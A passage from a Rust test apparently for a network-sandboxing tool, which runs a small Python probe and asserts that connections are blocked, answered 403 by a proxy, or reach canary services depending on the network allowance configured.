        s.sendall(b'CONNECT ok.test:80 HTTP/1.1\\r\\n\\r\\n')
        print(to[1], s.recv(12))
    except OSError as error: print(to[1], type(error).__name__)
";
        let second = self::place(who, &net);
        second.file("ws/ask.py", ask);
        let _before = net.seen();
        // A ring without a network, one with another, and the host itself.
        let (ran, _) = run(&second, &net, &yaml("{}", "[python3, ask.py]"));
        assert_eq!(ran.expect_code(0).stdout, "3128 OSError\n80 OSError\n53 OSError\n", "{ran:?}");
        let (ran, _) = run(&second, &net, &yaml("{allow: ['other.test:8080']}", "[python3, ask.py]"));
        let said_there = "3128 b'HTTP/1.1 403'\n80 ConnectionRefusedError\n53 TimeoutError\n";
        assert_eq!(ran.expect_code(0).stdout, said_there, "{ran:?}");
        let script = second.dir.join("ws/ask.py");
        let host = said(&net, who, &["/usr/bin/python3", script.to_str().unwrap()]);
        // Out there those addresses are anybody's: the world's canaries answer, no proxy does.
        assert_eq!(host, "3128 b'canary\\n'\n80 b'canary\\n'\n53 b'canary\\n'\n");
        place.file("ws/stop", "");
        Ran::wait(first, SOON).expect_code(7);
    }
}
